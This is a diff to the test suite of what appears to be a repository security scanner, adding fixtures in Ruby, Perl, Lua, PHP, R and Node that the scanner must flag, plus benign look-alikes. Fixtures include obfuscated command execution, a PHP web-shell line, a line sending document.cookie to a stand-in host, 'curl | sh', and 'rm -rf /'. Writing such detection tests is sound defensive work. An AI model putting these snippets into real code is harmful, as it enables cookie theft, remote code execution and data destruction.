@@ -191,6 +191,25 @@ SCRIPTS = {
     "ci": (".gitlab-ci.yml", "job:\n  script:\n    - echo aWQ= | base64 -d | bash\n",
            "script/dangerous-command", "high"),
     "shebang": ("start", "#!/bin/bash\nrm -rf /\n", "script/dangerous-command", "high"),
+    "ruby": ("x.rb", 'require "json"\nsystem("id")', "script/dangerous-command", "medium"),
+    "ruby-backticks": ("x.rb", "puts `id`", "script/dangerous-command", "medium"),
+    "ruby-send": ("x.rb", 'Kernel.send("sys" + "tem", "id")', "script/dangerous-command", "medium"),
+    "ruby-eval": ("Rakefile", "eval(Base64.decode64(x))", "script/dangerous-command", "medium"),
+    "ruby-pickle": ("x.rb", "Marshal.load(File.binread('m'))", "script/dangerous-command", "medium"),
+    "perl": ("x.pl", 'system("id");', "script/dangerous-command", "medium"),
+    "perl-open": ("x.pm", 'open(my $f, "-|", "id");', "script/dangerous-command", "medium"),
+    "perl-symbolic": ("x.pl", '&{"sys" . "tem"}("id");', "script/dangerous-command", "medium"),
+    "perl-eval": ("start", "#!/usr/bin/env perl\neval unpack u=>$x;", "script/dangerous-command", "medium"),
+    "lua": ("x.lua", 'os.execute("id")', "script/dangerous-command", "medium"),
+    "lua-computed": ("x.lua", '_G["o" .. "s"]["exe" .. "cute"]("id")', "script/dangerous-command", "medium"),
+    "lua-load": ("x.lua", "loadstring(decode(s))()", "script/dangerous-command", "medium"),
+    "php": ("x.php", "<?php system($_GET['c']);", "script/dangerous-command", "medium"),
+    "php-computed": ("x.php", '<?php $f = "sys" . "tem"; $f("id");', "script/dangerous-command", "medium"),
+    "php-network": ("x.php", "<?php $s = fsockopen('127.0.0.1', 9);", "script/dangerous-command", "medium"),
+    "r": ("x.R", 'system("id")', "script/dangerous-command", "medium"),
+    "node": ("x.mjs", "import { exec } from 'node:child_process';", "script/dangerous-command", "medium"),
+    "node-require": ("x.js", 'require("child_process").exec("id")', "script/dangerous-command", "medium"),
+    "cookie": ("x.js", "new Image().src='//x.invalid/?'+document.cookie", "script/dangerous-command", "high"),
     "envrc": (".envrc", "curl -s http://x.invalid | sh", "script/dangerous-command", "high"),
 }  # fmt: skip
 
@@ -199,7 +218,8 @@ SCRIPTS = {
 def test_script_attack(name: str, scan: Scan) -> None:
     file, text, rule, severity = SCRIPTS[name]
     assert (rule, severity) in _found(scan(**{file: text}))
-    commented = {"run.js": "// ", "run.bat": ":: ", "run.cmd": "rem ", "run.ps1": "# "}.get(file, "# ")
+    commented = {"run.js": "// ", "x.mjs": "// ", "x.js": "// ", "x.php": "// ", "x.lua": "-- ",
+                 "run.bat": ":: ", "run.cmd": "rem ", "run.ps1": "# "}.get(file, "# ")  # fmt: skip
     quiet = "\n".join(commented + line for line in text.replace("\\\n", " ").split("\n"))
     assert scan(**{file: quiet}).status is Status.PASS
 
@@ -222,6 +242,20 @@ ORDINARY = {
     "pip install -r requirements.txt\npython eval.py\n",
     "app.js": "import { pipeline } from '@xenova/transformers';\nconst r = await fetch('/api');\n"
     "model.eval();\nconsole.log(r);\n",
+    "app.rb": "require 'json'\nclass A\n  # system calls\n"
+    '  def exec_all(system)\n    puts "#{system} is `fine`"\n'
+    "    items.map(&:name).send(:sort)\n  end\nend\n",
+    "app.pl": "use strict;\nmy %h = (system => 1, exec => 2);\n"
+    "eval { run(%h); };\nopen(my $f, '<', 'a.txt');\n"
+    'print "$h{system} -> $_\\n" for keys %h;\n',
+    "app.lua": "-- os.execute is not used\nlocal t = { load = 1 }\nlocal f = io.open('a', 'r')\n"
+    "t.load = self.loader:load(f)\n"
+    "print(os.time(), os.getenv('HOME'))\nmodel:evaluate()\n",
+    "app.php": "<?php\n$pdo->exec('DELETE FROM t');\nfunction render($x) { return strtoupper($x); }\n"
+    "echo htmlspecialchars($_GET['q']);\n",
+    "app.R": "library(ggplot2)\nfit <- lm(y ~ x, d)\nprint(system.time(fit))\nload('a.rda')\nsource('b.R')\n",
+    "min.js": "!function(e){return String.fromCharCode(e)};fetch(a);var o={cookie:document.cookie};"
+    "const l=['mkfifo|mkfs|nano|nc'];\n",
     ".pre-commit-config.yaml": "repos:\n- repo: https://github.com/a/b\n  rev: v1\n  hooks:\n  - id: ruff\n",
 }  # fmt: skip
 
@@ -247,6 +281,10 @@ def test_commands_in_json_that_tools_run(scan: Scan) -> None:
     assert _found(scan(**{"package.json": json.dumps(package)})) == [
         ("code/runs-by-itself", "low"), ("script/dangerous-command", "high")]  # fmt: skip
     assert not scan(**{"package.json": json.dumps({"scripts": {"test": "jest", "build": "tsc"}})}).findings
+    script = {"install.js": 'require("child_process").exec("id")'}
+    wired = {"package.json": json.dumps({"scripts": {"postinstall": "node ./install.js"}})}
+    assert ("script/dangerous-command", "medium") in _found(scan(**script))
+    assert ("script/dangerous-command", "high") in _found(scan(**script, **wired))
     tasks = {"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}}]}
     assert _found(scan(**{"tasks.json": json.dumps(tasks)})) == [("code/runs-by-itself", "medium")]
 
